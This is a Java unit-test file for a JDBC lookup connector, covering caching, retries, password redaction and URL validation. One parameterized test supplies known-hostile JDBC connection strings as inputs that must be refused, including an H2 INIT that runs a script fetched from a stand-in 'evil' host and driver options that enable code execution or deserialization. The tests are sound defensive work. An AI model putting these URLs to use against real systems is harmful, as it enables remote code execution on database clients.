package io.sluice.connectors.jdbc;

import static io.sluice.connectors.TestTables.column;
import static io.sluice.connectors.TestTables.table;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sluice.common.ErrorCode;
import io.sluice.common.SluiceException;
import io.sluice.common.types.DataType;
import io.sluice.common.types.TypeRoot;
import io.sluice.connectors.LookupTableSource;
import io.sluice.connectors.TableContext;
import io.sluice.connectors.TestTables;
import io.sluice.executor.api.LookupFunction;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The jdbc connector's lookup side against a real in-memory H2 database, and the URLs and passwords it guards. */
class JdbcLookupTest {
  private static final String URL = "jdbc:h2:mem:jdbc_lookup_test";
  private Connection database;

  @BeforeEach
  void createTable() throws Exception {
    database = DriverManager.getConnection(URL + ";DB_CLOSE_DELAY=-1", "owner", "s3cret-pw");
    try (Statement statement = database.createStatement()) {
      statement.execute("CREATE TABLE customers (id BIGINT PRIMARY KEY, name VARCHAR(20), since DATE)");
      statement.execute("INSERT INTO customers VALUES (1, 'ann', DATE '2024-01-02'), (2, 'bob', NULL)");
    }
  }

  @AfterEach
  void dropDatabase() throws Exception {
    try (Statement statement = database.createStatement()) {
      statement.execute("DROP ALL OBJECTS");
    }
    database.close();
  }

  @Test
  void looksRowsUpByKeyAndServesCachedKeysWithoutTheDatabase() throws Exception {
    LookupTableSource source = TestTables.REGISTRY.createLookup(customers("'lookup.cache.max-rows'", "10",
        "lookup.cache.ttl", "1 h"), List.of(0));
    try (LookupFunction lookup = source.function().get()) {
      lookup.open();
      assertThat(lookup.lookup(new Object[] {1L})).singleElement()
          .isEqualTo(new Object[] {1L, "ann", (int) java.time.LocalDate.of(2024, 1, 2).toEpochDay()});
      assertThat(lookup.lookup(new Object[] {3L})).isEmpty();
      try (Statement statement = database.createStatement()) {
        statement.execute("UPDATE customers SET name = 'changed'");
        statement.execute("INSERT INTO customers VALUES (3, 'cid', NULL)");
      }
      // Both the found and the missing key come from the cache until the TTL passes.
      assertThat(lookup.lookup(new Object[] {1L}).get(0)[1]).isEqualTo("ann");
      assertThat(lookup.lookup(new Object[] {3L})).isEmpty();
      assertThat(lookup.lookup(new Object[] {2L})).singleElement().isEqualTo(new Object[] {2L, "changed", null});
    }
    assertThat(source.asyncThreads()).isEqualTo(4);
  }

  @Test
  void aFailingLookupIsRetriedThenReportedWithoutThePassword() throws Exception {
    TableContext wrongTable = table(List.of(column("id", DataType.of(TypeRoot.BIGINT))), "connector", "jdbc",
        "url", URL, "table-name", "missing", "username", "owner", "password", "s3cret-pw",
        "lookup.max-retries", "1");
    try (LookupFunction lookup = TestTables.REGISTRY.createLookup(wrongTable, List.of(0)).function().get()) {
      lookup.open();
      assertThatThrownBy(() -> lookup.lookup(new Object[] {1L}))
          .hasMessageContaining("failed after 2 attempts")
          .hasMessageContaining("MISSING")
          .hasMessageNotContaining("s3cret-pw");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
      "jdbc:h2:mem:x;init = CREATE ALIAS EXEC AS 'void e(String c) {}'",
      "jdbc:h2:mem:x;TRACE_LEVEL_FILE=0;Init=SET X 1",
      "jdbc:postgresql://db/x?socketFactory=org.example.Evil&socketFactoryArg=x",
      "jdbc:mysql://db/x?autoDeserialize=true",
      "http://db/x"})
  void urlsThatRunCodeAreRefusedWithoutEchoingThem(String url) {
    assertThatThrownBy(() -> TestTables.REGISTRY.validate(table(List.of(column("id",
        DataType.of(TypeRoot.BIGINT))), "connector", "jdbc", "url", url + ";password=s3cret-pw",
        "table-name", "t")))
        .isInstanceOf(SluiceException.class)
        .satisfies(e -> assertThat(((SluiceException) e).code()).isEqualTo(ErrorCode.INVALID_TABLE_OPTION))
        .hasMessageContaining("'url' of table 't' is refused")
        .hasMessageNotContaining("s3cret-pw");
  }

  @Test
  void aCacheNeedsBothItsSizeAndItsTtl() {
    assertThatThrownBy(() -> TestTables.REGISTRY.validate(customers("lookup.cache.max-rows", "10")))
        .hasMessageContaining("both 'lookup.cache.max-rows' and 'lookup.cache.ttl'");
  }

  @Test
  void aJdbcTableCannotBeScanned() {
    assertThatThrownBy(() -> TestTables.REGISTRY.createSource(customers()))
        .hasMessageContaining("only looks rows up, in a lookup join");
  }

  private static TableContext customers(String... moreOptions) {
    String[] options = new String[10 + moreOptions.length];
    System.arraycopy(new String[] {"connector", "jdbc", "url", URL, "table-name", "customers", "username", "owner",
        "password", "s3cret-pw"}, 0, options, 0, 10);
    System.arraycopy(moreOptions, 0, options, 10, moreOptions.length);
    for (int i = 0; i < options.length; i++) {
      options[i] = options[i].replace("'", "");
    }
    return table(List.of(column("id", DataType.of(TypeRoot.BIGINT)), column("name", DataType.string()),
        column("since", DataType.of(TypeRoot.DATE))), options);
  }
}
